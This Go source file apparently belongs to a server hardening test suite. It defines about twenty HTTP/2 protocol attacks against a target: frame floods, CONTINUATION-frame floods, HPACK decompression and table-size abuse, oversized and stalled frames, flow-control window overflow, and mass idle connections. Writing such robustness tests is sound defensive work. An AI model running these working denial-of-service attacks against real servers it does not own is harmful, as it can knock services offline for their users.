package attack

import (
	"bytes"
	"encoding/binary"
	"strings"

	"golang.org/x/net/http2"
)

// settled is for attacks that the server may answer in any way, as long as it does.
func settled(f *frames) error {
	_, err := f.settle()
	return err
}

// floods are attacks with frames of HTTP/2 that begin no request.
func floods() []Attack {
	many := func(name string, n int, do func(f *frames, i int)) Attack {
		return Attack{name, func(t *Target) error {
			return t.each(4, func(f *frames) error {
				for i := range n {
					do(f, i)
					if f.out.Buffered() > 48<<10 {
						f.flush()
					}
				}
				f.flush()
				return nil // what the server answers is not read
			})
		}}
	}
	const some = 20_000
	return []Attack{
		many("pings", some, func(f *frames, _ int) { _ = f.WritePing(false, [8]byte{}) }),
		many("settings", some, func(f *frames, _ int) { _ = f.WriteSettings() }),
		many("settings of another table", some, func(f *frames, i int) {
			_ = f.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: uint32(i)})
		}),
		many("priorities", some, func(f *frames, i int) {
			_ = f.WritePriority(uint32(2*i+1), http2.PriorityParam{StreamDep: uint32(2*i + 3), Weight: 7})
		}),
		many("windows", some, func(f *frames, _ int) { _ = f.WriteWindowUpdate(0, 1) }),
		many("frames of no kind", some, func(f *frames, i int) { _ = f.WriteRawFrame(http2.FrameType(100+i%100), 0, 0, []byte("x")) }),
		many("answers to nothing", some, func(f *frames, _ int) { _ = f.WriteSettingsAck() }),
		many("farewells", some, func(f *frames, _ int) { _ = f.WriteGoAway(0, http2.ErrCodeNo, nil) }),
		{"headers that go on", func(t *Target) error {
			return t.each(1, func(f *frames) error {
				_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.block("/tokenize")})
				part := bytes.Clone(f.fields("x", strings.Repeat("x", 16<<10-64)))
				for range 200 {
					_ = f.WriteContinuation(1, false, part)
				}
				return gone(f)
			})
		}},
		{"headers that go on with nothing", func(t *Target) error {
			return t.each(4, func(f *frames) error {
				_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.block("/tokenize")})
				for range some {
					_ = f.WriteContinuation(1, false, nil)
				}
				f.flush()
				return nil
			})
		}},
		{"headers that wait", func(t *Target) error {
			return t.each(50, func(f *frames) error {
				_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.block("/tokenize")})
				f.flush()
				return nil
			})
		}},
		{"headers that unpack to more", func(t *Target) error {
			return t.each(4, func(f *frames) error {
				f.open(true, f.block("/livez", "x", strings.Repeat("x", 3900)))
				for range 20 { // of the table's one entry, a byte each
					f.open(true, append(bytes.Clone(f.block("/livez")), bytes.Repeat([]byte{0xbe}, 12_000)...))
				}
				return settled(f)
			})
		}},
		{"headers that change the table", func(t *Target) error {
			return t.each(4, func(f *frames) error {
				f.open(true, append(bytes.Repeat([]byte{0x20, 0x3f, 0xe1, 0x1f}, 3000), f.block("/livez")...))
				return settled(f)
			})
		}},
		{"headers of a number without an end", func(t *Target) error {
			return t.each(1, func(f *frames) error {
				f.open(true, append([]byte{0x7f}, bytes.Repeat([]byte{0xff}, 10_000)...))
				return gone(f)
			})
		}},
		{"a frame larger than the limit", func(t *Target) error {
			return t.each(1, func(f *frames) error {
				head := append(binary.BigEndian.AppendUint32(nil, 0xffffff<<8|uint32(http2.FrameData)), 0, 0, 0, 0, 1)
				f.flush()
				write(f.conn, string(head)+"x")
				return gone(f)
			})
		}},
		{"a frame that does not come", func(t *Target) error {
			return t.each(50, func(f *frames) error {
				f.flush()
				write(f.conn, "\x00\x10\x00\x00\x00\x00\x00\x00\x01x")
				return nil
			})
		}},
		{"a window beyond all", func(t *Target) error {
			return t.each(1, func(f *frames) error {
				_ = f.WriteWindowUpdate(0, 1<<31-1)
				_ = f.WriteWindowUpdate(0, 1<<31-1)
				return gone(f)
			})
		}},
		{"a promise to the server", func(t *Target) error {
			return t.each(1, func(f *frames) error {
				_ = f.WritePushPromise(http2.PushPromiseParam{StreamID: 1, PromiseID: 2, BlockFragment: f.block("/"), EndHeaders: true})
				return gone(f)
			})
		}},
		{"data of no stream", func(t *Target) error {
			return t.each(1, func(f *frames) error {
				_ = f.WriteData(7, false, []byte("x"))
				return gone(f)
			})
		}},
		{"a stream of the server's", func(t *Target) error {
			return t.each(1, func(f *frames) error {
				f.next = 2
				f.open(true, f.block("/livez"))
				return gone(f)
			})
		}},
		{"a preface alone", func(t *Target) error {
			for range 50 {
				c, err := t.dial()
				if err != nil {
					return err
				}
				write(c, http2.ClientPreface)
			}
			return nil
		}},
		{"connections of HTTP/2 that wait", func(t *Target) error {
			return t.each(100, settled)
		}},
	}
}
